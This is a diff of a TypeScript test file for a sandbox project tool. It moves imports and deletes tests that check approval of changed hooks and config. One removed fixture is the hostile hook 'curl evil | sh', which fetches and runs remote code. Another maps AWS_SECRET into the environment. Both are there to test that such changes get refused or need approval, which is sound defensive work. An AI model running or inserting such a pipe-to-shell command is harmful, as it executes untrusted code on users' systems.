@@ -1,13 +1,12 @@
 import { describe, expect, it } from "vitest";
 import { parseProjectConfig } from "../../src/config/parse.js";
-import { approvalDecision, changedInputs, currentApprovals } from "../../src/project/approval.js";
 import { addGitignoreEntries } from "../../src/project/gitignore.js";
-import { parseEnvZ } from "../../src/project/hook.js";
+import { parseEnvZ } from "../../src/util/hook.js";
 import { ocboxYamlTemplate } from "../../src/project/init-templates.js";
 import { LoginCodes, cookieValue } from "../../src/project/login-codes.js";
 import { formatUptime, sandboxRows } from "../../src/project/sandbox-list.js";
 import { loopbackPort, projectSpec } from "../../src/project/spec.js";
-import { logFileName, stateLayout } from "../../src/project/state-layout.js";
+import { logFileName, stateLayout } from "../../src/util/state-layout.js";
 import { startupSummary } from "../../src/project/summary.js";
 import { attachArgv } from "../../src/project/attach.js";
 
@@ -23,34 +22,6 @@ describe("state layout", () => {
     expect(logFileName(new Date("2026-01-02T03:04:05.006Z"), "ab12")).toBe(
       "2026-01-02T03-04-05-006Z-ab12.log",
     );
-  });
-});
-
-describe("hook and config approval", () => {
-  const inputs = { hook: "aws sso login\n", config: "name: app\n" };
-  const approved = currentApprovals(inputs);
-  it("proceeds when nothing changed, and when there is no hook at all", () => {
-    expect(approvalDecision(approved, inputs, { flag: false, interactive: false })).toEqual({
-      action: "proceed",
-    });
-    expect(changedInputs({ config: approved.config }, { hook: undefined, config: inputs.config })).toEqual(
-      [],
-    );
-  });
-  it("a changed hook is refused with no terminal and no flag, asked on a terminal, recorded with the flag", () => {
-    const changed = { ...inputs, hook: "curl evil | sh\n" };
-    expect(approvalDecision(approved, changed, { flag: false, interactive: false })).toEqual({
-      action: "refuse",
-      changed: ["hook"],
-    });
-    expect(approvalDecision(approved, changed, { flag: false, interactive: true }).action).toBe("ask");
-    expect(approvalDecision(approved, changed, { flag: true, interactive: false }).action).toBe("record");
-  });
-  it("a changed config needs approval too; a first run has nothing approved", () => {
-    expect(
-      changedInputs(approved, { ...inputs, config: "name: app\nenv: {map: {X: AWS_SECRET}}\n" }),
-    ).toEqual(["config"]);
-    expect(changedInputs({}, inputs)).toEqual(["hook", "config"]);
   });
 });
 
